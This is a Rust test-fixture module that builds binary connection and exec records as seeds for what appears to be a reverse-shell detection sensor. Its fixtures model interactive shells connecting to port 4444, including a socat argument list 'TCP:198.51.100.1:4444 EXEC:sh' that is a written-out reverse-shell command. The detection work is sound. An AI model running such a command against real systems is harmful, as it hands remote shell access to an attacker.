//! Records as the kernel side writes them.

use bytemuck::{Pod, Zeroable, bytes_of};
use sensor_common::address::mapped;
use sensor_common::record::{
    ACCEPTED, Arm, CLASS_RELAY, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, KNOWN_FILE, KNOWN_SESSION,
    KNOWN_TTY, KNOWN_UNLINKED, Lineage, PATH_CUT, PATH_DETACHED, PATH_UNREADABLE, REASON_INHERITED, REASON_PARENT,
    REASON_PRESSURE, REASON_STREAMS, STREAM_DEVICE, STREAM_PIPE, STREAM_TCP, STREAMS, Stream, WITNESS_ACCEPT,
    WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
};

/// When the events were, in nanoseconds since boot.
const AT: u64 = 3_600_000_000_000;

pub(super) fn seeds() -> Vec<(String, Vec<u8>)> {
    let whole = executed();
    let [short, header] = [whole.len() - 3, 600].map(|length| whole.iter().take(length).copied().collect());
    [
        ("attempted", attempted()),
        ("accepted", accepted()),
        ("found-in-proc", found()),
        ("exec", whole),
        ("exec-short", short),
        ("no-header", header),
        ("exec-cut", cut()),
        ("exec-on-socket", on_socket()),
        ("exec-of-socat", socat()),
        ("exec-inherited", inherited()),
        ("exec-with-surroundings", surrounded()),
    ]
    .map(|(name, bytes)| (name.to_owned(), bytes))
    .into()
}

/// A shell that connected.
pub(super) fn attempted() -> Vec<u8> {
    record(&ConnectionRecord { arm: arm(), lineage: lineage(), ..Zeroable::zeroed() }, b"bash\0bin\0usr\0", b"")
}

/// A shell executed by the same process.
pub(super) fn executed() -> Vec<u8> {
    let mut header = ExecRecord { arm: arm(), ..exec() };
    let parent = b"python3\0bin\0usr\0";
    header.parent_path.len = length(parent);
    record(&header, b"bash\0bin\0usr\0", &[parent.as_slice(), b"bash\0-i\0"].concat())
}

fn accepted() -> Vec<u8> {
    let mut arm = Arm { direction: ACCEPTED, witness: WITNESS_ACCEPT | WITNESS_GRAFT, ..arm() };
    arm.local = [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9];
    arm.remote = [0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
    arm.leader_comm = padded(b"\xffname");
    let mut header = ConnectionRecord { arm, lineage: lineage(), ..Zeroable::zeroed() };
    header.path.state = PATH_DETACHED;
    record(&header, b"memfd:x\0", b"")
}

fn found() -> Vec<u8> {
    let arm = Arm { witness: WITNESS_PROC, local_port: 0, exe: padded(&[b'x'; 31]), ..arm() };
    record(&ConnectionRecord { arm, ..Zeroable::zeroed() }, b"", b"")
}

fn cut() -> Vec<u8> {
    let mut header = ExecRecord { argv_total: 20_000, reason: REASON_PRESSURE, ..exec() };
    header.flags = FLAG_I | FLAG_UNSEARCHED;
    header.path.state = PATH_CUT;
    header.loginuid = u32::MAX;
    header.lineage.more = 1;
    record(&header, b"zsh\0deep\0", b"zsh\0-c\0ech")
}

fn on_socket() -> Vec<u8> {
    let Arm { local, remote, local_port, remote_port, .. } = arm();
    let tcp = Stream { local, remote, local_port, remote_port, state: 1, kind: STREAM_TCP, ..Zeroable::zeroed() };
    let null = Stream { device: 1 << 20 | 3, kind: STREAM_DEVICE, ..Zeroable::zeroed() };
    let header = ExecRecord { reason: REASON_STREAMS, streams: [tcp, tcp, null], ..exec() };
    record(&header, b"bash\0bin\0usr\0", b"bash\0")
}

fn socat() -> Vec<u8> {
    let mut header = ExecRecord { comm: padded(b"socat"), reason: REASON_PARENT, ..exec() };
    header.path.state = PATH_UNREADABLE;
    record(&header, b"socat1\0bin\0", b"socat\0TCP:198.51.100.1:4444\0EXEC:sh\0")
}

/// A shell on pipes, which has inherited the connection of a python two forks away.
fn inherited() -> Vec<u8> {
    let (class, generations) = (CLASS_RELAY, 2);
    let arm = Arm {
        tgid: 4000,
        tid: 4000,
        comm: padded(b"python3"),
        exe: padded(b"python3.11"),
        class,
        generations,
        ..arm()
    };
    let pipe = Stream { kind: STREAM_PIPE, ..Zeroable::zeroed() };
    let header = ExecRecord { arm, reason: REASON_INHERITED, streams: [pipe; STREAMS], ..exec() };
    record(&header, b"bash\0bin\0usr\0", b"bash\0")
}

/// A file that was removed, in a session of its own with a terminal, with the paths of two ancestors, a directory and an environment.
fn surrounded() -> Vec<u8> {
    let (ancestors, directory, environment) =
        ([b"sshd\0bin\0".as_slice(), b"deep\0"], b"www\0var\0", b"PATH=/bin\0=\0A=\xff\0B=c");
    let mut header = ExecRecord { argv_len: 5, argv_total: 5, ..exec() };
    header.path.len = length(b"bash\0");
    let to = &mut header.surroundings;
    to.known = KNOWN_FILE | KNOWN_UNLINKED | KNOWN_SESSION | KNOWN_TTY;
    (to.inode, to.device, to.mode) = (77, 8 << 20 | 1, 0o104_755);
    (to.session, to.tty) = (4000, 136 << 20 | 5);
    for (part, path) in to.ancestors.iter_mut().zip(ancestors) {
        part.len = length(path);
    }
    to.ancestors[1].state = PATH_CUT;
    to.directory.len = length(directory);
    to.environment_len = length(environment);
    to.environment_total = 100;
    [bytes_of(&header), b"bash\0", &ancestors.concat(), directory, b"bash\0", environment].concat()
}

fn arm() -> Arm {
    Arm {
        sequence: 7,
        boot_ns: AT,
        start_ns: AT - 1_000_000,
        tgid: 4242,
        tid: 4242,
        uid: 1000,
        gid: 1000,
        local: mapped([10, 0, 0, 9]),
        remote: mapped([198, 51, 100, 1]),
        local_port: 40_000,
        remote_port: 4444,
        witness: WITNESS_CONNECT,
        comm: padded(b"bash"),
        leader_comm: padded(b"bash"),
        exe: padded(b"bash"),
        ..Zeroable::zeroed()
    }
}

fn exec() -> ExecRecord {
    ExecRecord {
        boot_ns: AT + 20_000_000,
        start_ns: AT - 1_000_000,
        tgid: 4242,
        old_tid: 4243,
        uid: 1000,
        gid: 1000,
        argc: 2,
        comm: padded(b"bash"),
        lineage: lineage(),
        ..Zeroable::zeroed()
    }
}

fn lineage() -> Lineage {
    let mut lineage = Lineage { count: 2, ..Zeroable::zeroed() };
    for (place, ancestor) in lineage.ancestors.iter_mut().take(2).enumerate() {
        (ancestor.tgid, ancestor.start_ns) = if place == 0 { (4000, AT - 5_000_000) } else { (1, 1) };
        (ancestor.comm, ancestor.exe) = (padded(b"bash"), padded(b"bash"));
    }
    lineage
}

fn padded<const N: usize>(text: &[u8]) -> [u8; N] {
    let mut bytes = [0; N];
    for (to, from) in bytes.iter_mut().zip(text) {
        *to = *from;
    }
    bytes
}

/// A header with what it announces.
fn record<T: Pod + Announces>(header: &T, path: &[u8], argv: &[u8]) -> Vec<u8> {
    let mut header = *header;
    header.announce(path, argv);
    [bytes_of(&header), path, argv].concat()
}

trait Announces {
    fn announce(&mut self, path: &[u8], argv: &[u8]);
}

impl Announces for ConnectionRecord {
    fn announce(&mut self, path: &[u8], _: &[u8]) {
        self.path.len = length(path);
    }
}

impl Announces for ExecRecord {
    fn announce(&mut self, path: &[u8], argv: &[u8]) {
        self.path.len = length(path);
        // The parent's path may stand in front of them.
        self.argv_len = length(argv) - self.parent_path.len;
        self.argv_total = self.argv_total.max(self.argv_len.into());
    }
}

fn length(bytes: &[u8]) -> u32 {
    u32::try_from(bytes.len()).expect("short")
}
